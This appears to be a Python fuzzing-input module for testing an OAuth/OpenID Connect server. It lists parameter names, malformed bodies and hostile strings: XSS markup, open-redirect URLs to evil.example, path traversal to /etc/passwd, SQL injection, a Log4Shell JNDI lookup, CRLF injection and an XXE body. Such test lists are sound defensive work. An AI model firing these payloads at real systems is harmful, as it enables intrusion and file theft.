"""What hostile requests are made of: values, names, bodies and media types that broke something somewhere once."""

from typing import Any

MARKUP = '"><script>alert(7)</script><img src=x onerror=alert(7)>'
METHODS = ("GET", "GET", "GET", "POST", "POST", "POST", "HEAD", "PUT", "DELETE", "PATCH", "OPTIONS", "TRACE", "FOO")
EVIL = (
    "//evil.example",
    "/\\evil.example",
    "https://evil.example/cb",
    "https://dich-vu.example.evil/cb",
    "https://dich-vu.example/cb.evil",
    "https://dich-vu.example/cb/evil",
    "https://dich-vu.example@evil.example/cb",
    "javascript:alert(7)",
    "///evil.example",
    "/%2f/evil.example",
    "\t//evil.example",
    "https:evil.example",
)
TEXTS = (
    "",
    " ",
    "0",
    "-1",
    "null",
    "[]",
    "{}",
    "true",
    "ộ🇻🇳",
    "\0",
    "a\0b",
    "\r\nX-Evil: 1",
    "\u202e\u200f\ufeff",
    "../../../etc/passwd",
    "' OR 1=1 --",
    "{{7*7}}",
    "%s%n%00",
    "${jndi:ldap://evil.example/a}",
    "x" * 300,
    "9" * 400,
    "x" * 3000,
    "ộ" * 2500,
    *[MARKUP] * 4,
    "openid",
    "code",
    "none login",
    "003190000013",
    *EVIL,
)
RAW = ("%", "%zz", "%ff%fe", "%ed%a0%80", "%00", "%c0%80", "%u0000", "+", "&&==&", "a=b=c", ";", "%f4%90%80%80", "=x")
NAMES = (
    "client_id redirect_uri response_type response_mode scope state nonce prompt max_age login_hint id_token_hint "
    "ui_locales claims acr_values display code_challenge code_challenge_method request request_uri registration "
    "resource grant_type code code_verifier refresh_token client_secret client_assertion client_assertion_type "
    "access_token post_logout_redirect_uri logout_hint parked identifier password decision choice to csrf_token x "
    "x[] x.y"
).split()
FORM = "application/x-www-form-urlencoded"
CONTENT_TYPES = (
    FORM,
    "application/x-www-form-urlencoded; charset=utf-16",
    "application/x-www-form-urlencoded; charset=khong-co",
    "multipart/form-data; boundary=x",
    "multipart/form-data",
    "application/json",
    "application/json; charset=latin-1",
    "text/plain",
    "text/html",
    "application/xml",
    "application/octet-stream",
    "",
    "x",
    "; ; ;",
    "application/x-www-form-urlencoded" + ";a=b" * 200,
)
BODIES = (
    b"",
    b"\0",
    b"\xff\xfe",
    b"a" * 70_000,
    b"&" * 5_000,
    b"a=1&" * 3_000,
    b"{",
    b"[" * 5_000,
    b'{"a":' * 2_000,
    b'--x\r\nContent-Disposition: form-data; name="grant_type"\r\n\r\nauthorization_code\r\n--x--\r\n',
    b'--x\r\nContent-Disposition: form-data; name="a"; filename="b"\r\n\r\n' + b"z" * 2_000 + b"\r\n--x--\r\n",
    b"--x\r\n\r\n--x",
    b"--x" * 500,
    b"<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
)
JSON_VALUES: tuple[Any, ...] = (
    None,
    True,
    0,
    -1,
    1.5,
    10**30,
    "",
    "x",
    "\ud800",
    "\0",
    MARKUP,
    [],
    [None],
    [[]],
    {},
    {"a": {}},
    ["x"] * 100,
    "https://dich-vu.example/cb",
    ["https://dich-vu.example/cb"],
    list(EVIL),
)
MEMBERS = (
    "redirect_uris client_name client_name#vi client_name#<b> grant_types response_types scope logo_uri policy_uri "
    "tos_uri client_uri contacts jwks jwks_uri token_endpoint_auth_method application_type subject_type "
    "sector_identifier_uri id_token_signed_response_alg default_max_age require_auth_time post_logout_redirect_uris "
    "backchannel_logout_uri backchannel_logout_session_required initiate_login_uri exceptions client_id client_secret "
    "purpose x"
).split()
